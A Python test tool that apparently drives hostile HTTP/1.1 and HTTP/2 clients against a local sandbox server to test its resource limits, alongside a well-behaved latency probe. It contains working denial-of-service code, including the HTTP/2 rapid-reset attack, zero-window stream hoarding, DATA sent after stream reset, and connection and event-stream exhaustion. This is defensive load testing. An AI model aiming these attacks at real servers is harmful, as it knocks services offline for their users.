#!/usr/bin/env python3
"""Hostile HTTP peers for the sandbox's resource tests (Tests/ServerTests/Hostile), and a well-behaved probe.

Each attack runs against 127.0.0.1:--port and prints one JSON object on stdout when it is over.
HTTP/2 frames are written and read raw (hyperframe + hpack, which h2 depends on), so an attack can do
what a correct client library refuses to do: send DATA on a reset stream, never open a window.

    pipeline      --connections N --requests K --path P --hold S
                  N HTTP/1.1 connections each pipeline K GETs in one write and never read; after S s
                  they close (with unread data, so the kernel resets them).
    rapid-reset   --pairs N --path P [--header 'name: value']…
                  One h2c connection sends N (HEADERS with END_STREAM, RST_STREAM CANCEL) pairs in one
                  write, then reads until GOAWAY or close: {"goaway": code, "lastStreamID",
                  "goawayDebugData", "responses"}.
    zero-window   --streams N --path P --hold S [--connections C]
                  One h2c connection (or C) with SETTINGS_INITIAL_WINDOW_SIZE 0 (and no WINDOW_UPDATE ever)
                  opens N GET streams (on each) and reads frames for S s, then closes:
                  {"headers", "data", "resets", "goaway"} (over all connections).
    http1-upload  --path P --body-bytes B --seconds S [--header …]
                  An HTTP/1.1 POST that announces B body bytes and writes 64 KiB chunks as fast as the
                  socket takes them, reading whatever comes, until the server closes or S s pass:
                  {"status", "sent", "sentAfterResponse" (bytes the socket took after the response head
                  arrived), "finAfter" (s from the response head to the server's FIN), "closedAfter" (s from the
                  response head to a write or read that failed: the server closed), "ending"
                  ("ConnectionResetError", "BrokenPipeError", or null: still open at S s), "seconds"}.
    upload        --path P --body-bytes B --seconds S [--header …]
                  POSTs a body larger than the server takes, honouring flow control until the answer
                  and the server's RST_STREAM arrive, then keeps sending DATA on that stream for up to
                  S s regardless: {"status", "resetCode", "sentAfterReset", "goaway", "goawayDebugData",
                  "closedAfter"}.
    body-hoard    --streams N --body-bytes B --path P --hold S
                  One h2c connection opens N POST streams and sends each up to B body bytes as fast as
                  the flow-control windows allow, never ending them: {"sent", "sentBeforeFirstReset",
                  "resets": {code: n}, "goaway"}.
    ping-idle     --interval I --seconds S
                  One h2c connection with no request that sends PING every I s: {"goawayAfter",
                  "closedAfter", "pings"} (seconds since the connection opened; null if not seen).
    sse-hoard     --connections N --path P --hold S
                  N HTTP/1.1 event-stream requests that read the response head and then nothing for
                  S s; prints {"statuses": {"200": n, "429": n, …}, "bodies": {status: first error
                  body}} as soon as all N were tried.
    connections   --count N --hold S
                  Opens N HTTP/1.1 connections, sends GET /healthz on each and holds them open for
                  S s; prints {"served": n, "refused": n} as soon as all N were tried.
    Every attack takes --source ADDR: the local address to connect from (127.0.0.2 is another client).

    probe         --seconds S --token JWT --device HEX --topic T [--interval I]
                  A well-behaved client: every I s a GET /healthz (HTTP/1.1, new connection) and a push
                  (h2c, new connection), each timed: {"healthz": [ms…], "push": [ms…], "failures": […]}.
"""

from __future__ import annotations

import argparse
import json
import select
import socket
import sys
import threading
import time

try:
    import hpack
    from hyperframe.frame import (DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
                                  SettingsFrame, WindowUpdateFrame)
except ImportError:  # pragma: no cover
    print("hostile_peer: the Python package 'h2' (hyperframe, hpack) is missing (run scripts/setup --test)",
          file=sys.stderr)
    sys.exit(1)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HOST = "127.0.0.1"
# The local address connections come from (--source: another loopback address is another client).
SOURCE: tuple[str, int] | None = None


def connect(port: int, timeout: float = 5) -> socket.socket:
    return socket.create_connection((HOST, port), timeout=timeout, source_address=SOURCE)


# MARK: - raw HTTP/2

class H2:
    """A raw HTTP/2 client connection: frames out as given, frames in parsed one by one."""

    def __init__(self, port: int, settings: dict[int, int] | None = None, timeout: float = 10) -> None:
        self.sock = connect(port, timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buffer = b""
        self.closed = False
        self.opened_at = time.monotonic()
        frame = SettingsFrame(0)
        for key, value in (settings or {}).items():
            frame.settings[key] = value
        self.sock.sendall(PREFACE + frame.serialize())

    def headers(self, stream_id: int, fields: list[tuple[str, str]], end_stream: bool) -> bytes:
        frame = HeadersFrame(stream_id)
        frame.data = self.encoder.encode(fields)
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    @staticmethod
    def data(stream_id: int, payload: bytes, end_stream: bool = False) -> bytes:
        frame = DataFrame(stream_id)
        frame.data = payload
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    @staticmethod
    def rst(stream_id: int, code: int = 8) -> bytes:
        frame = RstStreamFrame(stream_id)
        frame.error_code = code
        return frame.serialize()

    def send(self, payload: bytes) -> bool:
        try:
            self.sock.sendall(payload)
            return True
        except OSError:
            self.closed = True
            return False

    def frames(self, timeout: float):
        """Yields frames that arrive within `timeout` (fewer if the peer closes); ACKs SETTINGS."""
        deadline = time.monotonic() + timeout
        while True:
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                frame, _ = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                frame.parse_body(memoryview(self.buffer[9:9 + length]))
                self.buffer = self.buffer[9 + length:]
                if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    ack = SettingsFrame(0)
                    ack.flags.add("ACK")
                    self.send(ack.serialize())
                yield frame
            left = deadline - time.monotonic()
            if left <= 0 or self.closed:
                return
            ready, _, _ = select.select([self.sock], [], [], min(left, 0.1))
            if not ready:
                continue
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.buffer += chunk

    def status(self, frame: HeadersFrame) -> str | None:
        fields = dict(self.decoder.decode(frame.data, raw=True))
        status = fields.get(b":status")
        return status.decode() if status else None

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def request_fields(port: int, method: str, path: str, extra: list[str]) -> list[tuple[str, str]]:
    fields = [(":method", method), (":scheme", "http"), (":authority", f"{HOST}:{port}"), (":path", path)]
    for header in extra:
        name, _, value = header.partition(":")
        fields.append((name.strip().lower(), value.strip()))
    return fields


# MARK: - attacks

def pipeline(args: argparse.Namespace) -> dict:
    request = f"GET {args.path} HTTP/1.1\r\nHost: hostile\r\n\r\n".encode()
    payload = request * args.requests
    sockets = []
    sent = 0
    for _ in range(args.connections):
        sock = connect(args.port)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # the least we can hold for the server
        sock.setblocking(False)
        try:
            sent += sock.send(payload)
        except BlockingIOError:
            pass
        sockets.append(sock)
    time.sleep(args.hold)
    for sock in sockets:
        sock.close()
    return {"connections": len(sockets), "sent": sent}


def rapid_reset(args: argparse.Namespace) -> dict:
    conn = H2(args.port)
    burst = bytearray()
    fields = request_fields(args.port, "GET", args.path, args.header)
    for index in range(args.pairs):
        stream_id = 1 + 2 * index
        burst += conn.headers(stream_id, fields, end_stream=True)
        burst += conn.rst(stream_id)
    started = time.monotonic()
    conn.send(bytes(burst))
    result = {"sentBytes": len(burst), "responses": 0, "goaway": None, "lastStreamID": None,
              "goawayDebugData": None, "closedAfter": None}
    for frame in conn.frames(args.timeout):
        if isinstance(frame, HeadersFrame):
            result["responses"] += 1
        elif isinstance(frame, GoAwayFrame):
            result["goaway"] = frame.error_code
            result["lastStreamID"] = frame.last_stream_id
            result["goawayDebugData"] = frame.additional_data.decode("utf-8", "replace")
    if conn.closed:
        result["closedAfter"] = round(time.monotonic() - started, 3)
    conn.close()
    return result


def zero_window(args: argparse.Namespace) -> dict:
    conns = [H2(args.port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}) for _ in range(args.connections)]
    fields = request_fields(args.port, "GET", args.path, args.header)
    for conn in conns:
        burst = bytearray()
        for index in range(args.streams):
            burst += conn.headers(1 + 2 * index, fields, end_stream=True)
        conn.send(bytes(burst))
    result = {"headers": 0, "data": 0, "resets": {}, "goaway": None}
    deadline = time.monotonic() + args.hold
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            break
        if all(conn.closed for conn in conns):
            time.sleep(min(left, 0.05))
        for conn in conns:
            for frame in conn.frames(min(left, 0.05) if len(conns) > 1 else left):
                if isinstance(frame, HeadersFrame):
                    result["headers"] += 1
                elif isinstance(frame, DataFrame):
                    result["data"] += len(frame.data)
                elif isinstance(frame, RstStreamFrame):
                    key = str(frame.error_code)
                    result["resets"][key] = result["resets"].get(key, 0) + 1
                elif isinstance(frame, GoAwayFrame):
                    result["goaway"] = frame.error_code
    for conn in conns:
        conn.close()
    if args.connections > 1:
        result["connections"] = len(conns)
    return result


def http1_upload(args: argparse.Namespace) -> dict:
    """An HTTP/1.1 POST announcing --body-bytes that keeps writing whatever the server answers."""
    sock = connect(args.port)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    head = (f"POST {args.path} HTTP/1.1\r\nHost: hostile\r\nContent-Type: application/json\r\n"
            f"Content-Length: {args.body_bytes}\r\n")
    for header in args.header:
        head += header + "\r\n"
    sock.sendall((head + "\r\n").encode())
    sock.setblocking(False)
    chunk = b"x" * (1 << 16)
    result = {"status": None, "sent": 0, "sentAfterResponse": 0, "closedAfter": None, "finAfter": None, "ending": None}
    received = b""
    answered_at = None
    eof = False  # the server's FIN: it sends nothing more, but may still read
    started = time.monotonic()
    deadline = started + args.seconds
    while time.monotonic() < deadline:
        readable, writable, _ = select.select([] if eof else [sock], [sock], [], 0.1)
        if readable:
            try:
                data = sock.recv(1 << 16)
            except OSError as error:
                result["ending"] = type(error).__name__
                break
            if not data:
                eof = True
                result["finAfter"] = round(time.monotonic() - (answered_at or started), 3)
            received += data
            if answered_at is None and b"\r\n\r\n" in received:
                answered_at = time.monotonic()
                result["status"] = received.split(b" ", 2)[1].decode()
        if writable:
            try:
                sent = sock.send(chunk)
            except OSError as error:
                result["ending"] = type(error).__name__
                break
            result["sent"] += sent
            if answered_at is not None:
                result["sentAfterResponse"] += sent
    if result["ending"] is not None and answered_at is not None:
        result["closedAfter"] = round(time.monotonic() - answered_at, 3)
    result["seconds"] = round(time.monotonic() - started, 3)
    sock.close()
    return result


def upload(args: argparse.Namespace) -> dict:
    conn = H2(args.port)
    fields = request_fields(args.port, "POST", args.path, args.header)
    stream_id = 1
    conn.send(conn.headers(stream_id, fields, end_stream=False))
    window_connection, window_stream = 65_535, 65_535
    chunk = b"x" * 16_384
    result = {"status": None, "resetCode": None, "sentBeforeReset": 0, "sentAfterReset": 0, "goaway": None,
              "goawayDebugData": None, "closedAfter": None}
    reset_at = None
    deadline = time.monotonic() + args.seconds + 30
    while time.monotonic() < deadline and not conn.closed:
        for frame in conn.frames(0.005):
            if isinstance(frame, SettingsFrame) and SettingsFrame.INITIAL_WINDOW_SIZE in frame.settings:
                window_stream += frame.settings[SettingsFrame.INITIAL_WINDOW_SIZE] - 65_535
            elif isinstance(frame, WindowUpdateFrame):
                if frame.stream_id == 0:
                    window_connection += frame.window_increment
                elif frame.stream_id == stream_id:
                    window_stream += frame.window_increment
            elif isinstance(frame, HeadersFrame) and frame.stream_id == stream_id:
                result["status"] = conn.status(frame)
            elif isinstance(frame, RstStreamFrame) and frame.stream_id == stream_id:
                result["resetCode"] = frame.error_code
                reset_at = time.monotonic()
            elif isinstance(frame, GoAwayFrame):
                result["goaway"] = frame.error_code
                result["goawayDebugData"] = frame.additional_data.decode("utf-8", "replace")
        if result["goaway"] is not None:
            break
        if reset_at is None:
            size = min(len(chunk), window_connection, window_stream)
            if size > 0 and result["sentBeforeReset"] < args.body_bytes:
                if conn.send(conn.data(stream_id, chunk[:size])):
                    result["sentBeforeReset"] += size
                    window_connection -= size
                    window_stream -= size
        else:
            # The hostile part: the stream is closed, flow control no longer restrains us.
            if time.monotonic() - reset_at > args.seconds:
                break
            if conn.send(conn.data(stream_id, chunk) * 16):
                result["sentAfterReset"] += len(chunk) * 16
    if result["goaway"] is not None:
        for _ in conn.frames(5):  # until the server closes
            pass
    if conn.closed and reset_at is not None:
        result["closedAfter"] = round(time.monotonic() - reset_at, 3)
    conn.close()
    return result


def body_hoard(args: argparse.Namespace) -> dict:
    conn = H2(args.port)
    fields = request_fields(args.port, "POST", args.path, args.header)
    streams = [1 + 2 * index for index in range(args.streams)]
    conn.send(b"".join(conn.headers(stream_id, fields, end_stream=False) for stream_id in streams))
    window_connection = 65_535
    initial_stream = 65_535
    sent = {stream_id: 0 for stream_id in streams}
    credit = {stream_id: 0 for stream_id in streams}  # WINDOW_UPDATEs per stream
    result = {"sent": 0, "sentBeforeFirstReset": None, "resets": {}, "goaway": None}
    chunk = b"u" * 16_384
    end = time.monotonic() + args.hold
    while time.monotonic() < end and not conn.closed:
        for frame in conn.frames(0.01):
            if isinstance(frame, SettingsFrame) and SettingsFrame.INITIAL_WINDOW_SIZE in frame.settings:
                initial_stream = frame.settings[SettingsFrame.INITIAL_WINDOW_SIZE]
            elif isinstance(frame, WindowUpdateFrame):
                if frame.stream_id == 0:
                    window_connection += frame.window_increment
                elif frame.stream_id in credit:
                    credit[frame.stream_id] += frame.window_increment
            elif isinstance(frame, RstStreamFrame):
                key = str(frame.error_code)
                result["resets"][key] = result["resets"].get(key, 0) + 1
                if result["sentBeforeFirstReset"] is None:
                    result["sentBeforeFirstReset"] = result["sent"]
                sent.pop(frame.stream_id, None)
            elif isinstance(frame, GoAwayFrame):
                result["goaway"] = frame.error_code
        for stream_id in list(sent):
            room = min(len(chunk), window_connection, initial_stream + credit[stream_id] - sent[stream_id],
                       args.body_bytes - sent[stream_id])
            if room > 0 and conn.send(conn.data(stream_id, chunk[:room])):
                sent[stream_id] += room
                window_connection -= room
                result["sent"] += room
    conn.close()
    return result


def ping_idle(args: argparse.Namespace) -> dict:
    conn = H2(args.port)
    result = {"pings": 0, "goawayAfter": None, "closedAfter": None}
    end = time.monotonic() + args.seconds
    next_ping = time.monotonic()
    while time.monotonic() < end and not conn.closed:
        if time.monotonic() >= next_ping:
            ping = PingFrame(0)
            ping.opaque_data = b"12345678"
            conn.send(ping.serialize())
            result["pings"] += 1
            next_ping += args.interval
        for frame in conn.frames(0.05):
            if isinstance(frame, GoAwayFrame) and result["goawayAfter"] is None:
                result["goawayAfter"] = round(time.monotonic() - conn.opened_at, 3)
    if conn.closed:
        result["closedAfter"] = round(time.monotonic() - conn.opened_at, 3)
    conn.close()
    return result


def sse_hoard(args: argparse.Namespace) -> dict:
    statuses: dict[str, int] = {}
    bodies: dict[str, str] = {}
    sockets = []
    request = f"GET {args.path} HTTP/1.1\r\nHost: hostile\r\n\r\n".encode()
    for _ in range(args.connections):
        sock = connect(args.port)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.sendall(request)
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = sock.recv(4096)
            if not chunk:
                break
            head += chunk
        status = head.split(b" ", 2)[1].decode() if head.startswith(b"HTTP/") else "none"
        statuses[status] = statuses.get(status, 0) + 1
        if status != "200":
            bodies.setdefault(status, head.split(b"\r\n\r\n", 1)[-1].decode(errors="replace"))
            sock.close()
        else:
            sockets.append(sock)
    # Printed before holding, so a test knows the streams are open while they are.
    print(json.dumps({"statuses": statuses, "bodies": bodies}), flush=True)
    time.sleep(args.hold)
    for sock in sockets:
        sock.close()
    return None


def connections(args: argparse.Namespace) -> dict:
    served, refused = 0, 0
    sockets = []
    for _ in range(args.count):
        try:
            sock = connect(args.port)
            sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: hostile\r\n\r\n")
            sock.settimeout(5)
            answer = sock.recv(4096)
        except OSError:
            answer = b""
        if answer.startswith(b"HTTP/1.1 200"):
            served += 1
            sockets.append(sock)
        else:
            refused += 1
    # Printed before holding, so a test knows how many are open while they are.
    print(json.dumps({"served": served, "refused": refused}), flush=True)
    time.sleep(args.hold)
    for sock in sockets:
        sock.close()
    return None


# MARK: - the well-behaved client

def timed_healthz(port: int) -> float:
    started = time.monotonic()
    with connect(port) as sock:
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n")
        answer = b""
        while True:
            chunk = sock.recv(4096)
            if not chunk:
                break
            answer += chunk
    if not answer.startswith(b"HTTP/1.1 200"):
        raise RuntimeError(f"healthz answered {answer[:40]!r}")
    return (time.monotonic() - started) * 1000


def timed_push(port: int, token: str, device: str, topic: str) -> float:
    started = time.monotonic()
    conn = H2(port, timeout=5)
    try:
        fields = request_fields(port, "POST", f"/3/device/{device}", [
            f"authorization: bearer {token}", f"apns-topic: {topic}", "apns-push-type: alert"])
        body = b'{"aps":{"alert":"probe"}}'
        conn.send(conn.headers(1, fields + [("content-length", str(len(body)))], end_stream=False)
                  + conn.data(1, body, end_stream=True))
        for frame in conn.frames(5):
            if isinstance(frame, HeadersFrame) and frame.stream_id == 1:
                status = conn.status(frame)
                if status != "200":
                    raise RuntimeError(f"push answered {status}")
                return (time.monotonic() - started) * 1000
            if isinstance(frame, (GoAwayFrame, RstStreamFrame)):
                raise RuntimeError(f"push got {type(frame).__name__}")
        raise RuntimeError("push: no answer")
    finally:
        conn.close()


def probe(args: argparse.Namespace) -> dict:
    result: dict = {"healthz": [], "push": [], "failures": []}
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        for name, call in (("healthz", lambda: timed_healthz(args.port)),
                           ("push", lambda: timed_push(args.port, args.token, args.device, args.topic))):
            try:
                result[name].append(round(call(), 2))
            except Exception as error:  # noqa: BLE001 - every failure is reported
                result["failures"].append(f"{name}: {error}")
        time.sleep(args.interval)
    return result


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=["pipeline", "rapid-reset", "zero-window", "http1-upload", "upload", "body-hoard",
                                           "ping-idle", "sse-hoard", "connections", "probe"])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--path", default="/healthz")
    parser.add_argument("--header", action="append", default=[])
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--requests", type=int, default=1000)
    parser.add_argument("--pairs", type=int, default=900)
    parser.add_argument("--streams", type=int, default=999)
    parser.add_argument("--count", type=int, default=10)
    parser.add_argument("--hold", type=float, default=2)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--interval", type=float, default=0.1)
    parser.add_argument("--timeout", type=float, default=5)
    parser.add_argument("--body-bytes", type=int, default=2 << 20)
    parser.add_argument("--token", default="")
    parser.add_argument("--device", default="")
    parser.add_argument("--topic", default="")
    parser.add_argument("--source", default=None, help="local address to connect from, e.g. 127.0.0.2")
    args = parser.parse_args()
    global SOURCE
    SOURCE = (args.source, 0) if args.source else None
    attacks = {"pipeline": pipeline, "rapid-reset": rapid_reset, "zero-window": zero_window, "http1-upload": http1_upload,
               "upload": upload,
               "body-hoard": body_hoard,
               "ping-idle": ping_idle, "sse-hoard": sse_hoard, "connections": connections, "probe": probe}
    result = attacks[args.attack](args)
    if result is not None:
        print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
